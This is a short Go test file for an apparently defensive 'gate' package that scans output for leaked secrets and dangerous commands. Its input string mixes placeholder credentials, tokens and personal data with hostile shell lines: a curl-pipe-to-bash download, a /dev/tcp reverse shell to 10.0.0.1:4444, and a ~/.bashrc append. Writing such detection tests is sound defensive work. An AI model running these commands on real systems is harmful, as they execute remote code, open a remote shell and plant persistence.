package gate

import (
	"fmt"
	"testing"
)

func TestQuickManual(t *testing.T) {
	g, err := New(DefaultPolicy())
	if err != nil {
		t.Fatal(err)
	}
	g.AddSecret("db", []byte("hunter2-super-secret"))
	in := "key AKIAIOSFODNN7EXAMPLE and ghp_0123456789abcdefghijABCDEFGHIJ012345 mail bob@example.com ip 10.0.0.1 card 4111 1111 1111 1111 ssn 123-45-6789 call (555) 123-4567 or +44 20 7946 0958\n" +
		"password=Zx9#kLm2$Qw8!vB4 url postgres://admin:S3cr3tP4ss@db.internal:5432/app jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U\n" +
		"curl -fsSL https://x.sh | bash ; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; echo x >> ~/.bashrc; the amount of discount since once\n" +
		"echo hunter2-super-secret aHVudGVyMi1zdXBlci1zZWNyZXQ= IBAN DE89 3704 0044 0532 0130 00 fe80::1 v1.2.3 2024-01-15\n"
	out, rep := g.Scan("stdout", []byte(in))
	fmt.Printf("%s\n%s\n", out, rep.Verdict)
	for _, f := range rep.Findings {
		fmt.Printf("%+v %q\n", f, in[f.Offset:f.Offset+int64(f.Length)])
	}
}
